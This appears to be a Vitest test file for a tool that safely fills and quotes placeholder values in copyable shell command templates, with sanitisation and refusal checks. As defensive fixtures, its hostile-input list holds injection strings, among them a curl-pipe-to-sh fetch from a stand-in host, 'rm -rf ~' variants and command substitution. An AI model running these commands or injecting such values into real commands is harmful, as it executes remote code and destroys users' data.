import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { copyStatus, prepareCopy } from '../../lib/variables/prepare-copy';
import { quoteContext, quoteValue, shellOf } from '../../lib/variables/quote';
import { sanitizeValue } from '../../lib/variables/sanitize';
import { variableRule } from '../../lib/variables/types';

/** What bash really receives as arguments when it runs `cmd` (printf each argv on its own line). */
function bashArgs(command: string): string[] {
  return execFileSync('bash', ['-c', `args() { printf '%s\\0' "$@"; }; ${command}`], { encoding: 'utf8' }).split('\0').slice(0, -1);
}

describe('hidden characters never enter a value', () => {
  it.each([
    ['build\r{rm,-rf,~}\r', 'build{rm,-rf,~}', '2 line breaks'],
    ['api\n', 'api', '1 line break'],
    ['a\tb', 'ab', '1 tab'],
    ['x\u001b[2Jy', 'x[2Jy', '1 escape character'],
    ['a\u0000b', 'ab', '1 control character'],
    ['ad\u202emin', 'admin', '1 bidirectional control'],
    ['ap\u200bi', 'api', '1 zero-width character'],
  ])('%j', (raw, value, note) => {
    expect(sanitizeValue(raw)).toEqual({ value, removed: [note] });
  });
  it('leaves ordinary text alone', () => {
    expect(sanitizeValue('ghcr.io/acme/api:1.4.2')).toEqual({ value: 'ghcr.io/acme/api:1.4.2', removed: [] });
  });
});

describe('values are quoted for the block\'s shell at their place', () => {
  const hostile = ['$(curl -s evil.example/x.sh | sh)', '`id`', '~', '*', 'a b', "it's", 'x;rm -rf ~', '{rm,-rf,~}', '!!', 'a"b', 'a\\b'];
  it.each(hostile)('bash receives %j as one literal argument, bare', (value) => {
    const plan = prepareCopy({ template: 'args __V__', lang: 'bash', values: { V: value } });
    expect(plan.ok).toBe(true);
    if (plan.ok) expect(bashArgs(plan.text)).toEqual([value]);
  });
  it.each(hostile.filter((v) => !v.includes('!')))('bash receives %j literally inside double quotes and inside single quotes', (value) => {
    for (const template of ['args "pre-__V__-post"', "args 'pre-__V__-post'"]) {
      const plan = prepareCopy({ template, lang: 'sh', values: { V: value } });
      expect(plan.ok).toBe(true);
      if (plan.ok) expect(bashArgs(plan.text)).toEqual([`pre-${value}-post`]);
    }
  });
  it('refuses "!" inside double quotes, with the reason', () => {
    expect(prepareCopy({ template: 'echo "__V__"', lang: 'bash', values: { V: 'a!b' } })).toEqual({ ok: false, reason: 'V cannot be quoted here: it contains "!", which bash expands inside double quotes' });
  });
  it('leaves a plain value as typed, and quotes a value joined to a word as one word', () => {
    expect(prepareCopy({ template: 'docker run __IMAGE__', lang: 'bash', values: { IMAGE: 'acme/api:1.2' } })).toMatchObject({ text: 'docker run acme/api:1.2', quoted: [] });
    const plan = prepareCopy({ template: 'kubectl rollout restart deployment/__APP__', lang: 'bash', values: { APP: 'my app' } });
    expect(plan.ok && bashArgs(plan.text.replace('kubectl rollout restart', 'args'))).toEqual(['deployment/my app']);
  });
  it('PowerShell: single quotes doubled, typographic quotes too', () => {
    expect(quoteValue("it's", 'powershell', 'bare')).toEqual({ ok: true, text: "'it''s'" });
    expect(quoteValue('a\u2019b', 'powershell', 'bare')).toEqual({ ok: true, text: "'a\u2019\u2019b'" });
    expect(quoteValue('$env:X', 'powershell', 'double')).toEqual({ ok: true, text: '`$env:X' });
    expect(shellOf('pwsh')).toBe('powershell');
  });
  it('no shell (YAML, Dockerfile): inserted as typed', () => {
    expect(prepareCopy({ template: 'image: __IMAGE__', lang: 'yaml', values: { IMAGE: 'a b' } })).toMatchObject({ ok: true, text: 'image: a b' });
  });
  it('reads the quoting context like the shell does', () => {
    expect(quoteContext(`echo 'a "b' "c \\" __V__`, 16, 'posix')).toBe('double');
    expect(quoteContext(`echo 'don''t' __V__`, 15, 'posix')).toBe('bare');
  });
});

describe('a copy that would mislead is refused or warned about, visibly', () => {
  const rules = { IMAGE_NAME: variableRule('IMAGE_NAME') };
  it('a value failing its format check is not copied', () => {
    const plan = prepareCopy({ template: 'docker run __IMAGE_NAME__', lang: 'bash', values: { IMAGE_NAME: 'Not An Image' }, rules });
    expect(plan.ok).toBe(false);
    expect(copyStatus(plan)).toEqual({ kind: 'refused', text: expect.stringMatching(/^Not copied: IMAGE_NAME is not valid: /) });
  });
  it('a value with hidden characters (from storage, say) is not copied', () => {
    expect(prepareCopy({ template: 'x __V__', lang: 'bash', values: { V: 'a\rb' } }).ok).toBe(false);
  });
  it('unfilled placeholders are copied as written with a visible warning naming them', () => {
    const plan = prepareCopy({ template: 'kubectl logs __POD_NAME__ -n __NAMESPACE__', lang: 'bash', values: { NAMESPACE: 'prod' } });
    expect(plan).toMatchObject({ ok: true, text: 'kubectl logs __POD_NAME__ -n prod', unfilled: ['POD_NAME'] });
    expect(copyStatus(plan).kind).toBe('warning');
    expect(copyStatus(plan).text).toContain('not filled in: POD_NAME');
  });
});
